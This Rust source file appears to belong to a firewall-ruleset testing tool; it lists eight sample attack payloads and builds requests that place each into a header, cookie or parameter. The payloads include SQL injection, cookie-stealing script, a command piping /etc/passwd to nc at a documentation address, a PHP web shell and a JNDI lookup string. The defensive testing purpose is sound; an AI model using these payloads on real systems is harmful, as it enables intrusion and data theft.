//! Attacks to try at a place.

use crate::explain::Exchange;

/// One of each kind that a ruleset should know: name, and what an attacker would send.
pub(super) const ATTACKS: [(&str, &str); 8] = [
    ("SQL injection, union", "1' UNION SELECT username, password FROM users-- -"),
    ("SQL injection, always true", "x' OR 1=1 -- "),
    ("cross-site scripting", "\"><script>alert(document.cookie)</script>"),
    ("path traversal", "../../../../../../etc/passwd"),
    ("command execution", "; cat /etc/passwd | nc 192.0.2.1 4444"),
    ("PHP code", "<?php system($_GET['c']); ?>"),
    ("Java expression", "${jndi:ldap://192.0.2.1/a}"),
    ("file inclusion", "http://192.0.2.1/shell.txt?"),
];

/// Another parameter of the same path.
pub(super) const ELSEWHERE: &str = "ARGS:zz_other";

/// `sample`'s method and path with `value` at `target` and nothing else of it; none where nothing can be put.
pub(super) fn at(sample: &Exchange, variable: &str, member: Option<&[u8]>, value: &str) -> Option<Exchange> {
    let keep = ["host", "user-agent", "accept", "accept-language"];
    let mut out = Exchange { gaps: Vec::new(), reply: None, body: Vec::new(), ..sample.clone() };
    out.headers.retain(|(name, _)| keep.iter().any(|kept| name.eq_ignore_ascii_case(kept.as_bytes())));
    let path = sample.target.split(|b| *b == b'?').next().unwrap_or_default().to_vec();
    match variable {
        "REQUEST_HEADERS" => {
            let name = member?;
            out.headers.retain(|(known, _)| !known.eq_ignore_ascii_case(name));
            out.headers.push((name.to_vec(), value.as_bytes().to_vec()));
            out.target = path;
        }
        "REQUEST_COOKIES" => {
            // A cookie ends at the next semicolon.
            let mut cookie = [member?, b"="].concat();
            cookie.extend(encoded(value.as_bytes()));
            out.headers.push((b"Cookie".to_vec(), cookie));
            out.target = path;
        }
        _ => {
            let name = member.unwrap_or(b"q");
            out.target = [&path, &b"?"[..], &encoded(name), b"=", &encoded(value.as_bytes())].concat();
            if out.method != b"GET" {
                out.headers.push((b"Content-Type".to_vec(), b"application/x-www-form-urlencoded".to_vec()));
                out.body = [&encoded(name), &b"="[..], &encoded(value.as_bytes())].concat();
                out.headers.push((b"Content-Length".to_vec(), out.body.len().to_string().into_bytes()));
                out.target = path;
            }
        }
    }
    Some(out)
}

fn encoded(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for &byte in text {
        if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) {
            out.push(byte);
        } else {
            out.extend_from_slice(format!("%{byte:02X}").as_bytes());
        }
    }
    out
}
